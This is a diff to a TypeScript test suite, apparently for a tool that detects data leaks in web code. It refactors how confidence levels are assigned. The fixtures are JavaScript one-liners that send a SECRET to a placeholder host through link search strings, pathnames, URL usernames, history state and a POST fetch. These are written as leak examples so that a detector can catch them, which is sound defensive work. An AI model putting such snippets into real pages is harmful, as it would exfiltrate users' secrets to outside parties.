@@ -44,12 +44,10 @@ const FLOWS: readonly DataFlow[] = [
 	[
 		"the search of a link",
 		`const link = document.createElement("a"); link.href = "HOST/x"; link.search = new URLSearchParams({ q: SECRET }); fetch(link.href);`,
-		"amber",
 	],
 	[
 		"the path of a link",
 		`const link = document.createElement("a"); link.href = "HOST/"; link.pathname = SECRET; new Image().src = link.href;`,
-		"amber",
 	],
 	["the user of an address", `const to = new URL("HOST"); to.username = SECRET; fetch(to.href);`],
 	["history's state", `history.replaceState({ text: SECRET }, ""); fetch("HOST/" + history.state.text);`],
@@ -72,13 +70,16 @@ const FLOWS: readonly DataFlow[] = [
 
 const POSTS = `.toBlob((body) => fetch("https://c.test", { method: "POST", body }));`;
 
+/** Their address passes through items or members that a skeptical run doubts. */
+const DOUBTED = new Set(["the search of a link", "the path of a link"]);
+
 describe("data in streams and parts of addresses", () => {
 	test.each(FLOWS)("%s carries a secret to a stranger", (_title, code) => expectLeak(code));
 	test.each(FLOWS)("%s carries nothing when there is nothing to carry", (_title, code) =>
 		expectHarmlessWithoutSecret(code),
 	);
-	test.each(FLOWS)("%s may carry anything on the site itself", (_title, code, level) =>
-		expectHarmlessOnOwnSite(code, level),
+	test.each(FLOWS)("%s may carry anything on the site itself", (title, code) =>
+		expectHarmlessOnOwnSite(code, DOUBTED.has(title) ? "amber" : "green"),
 	);
 });
 
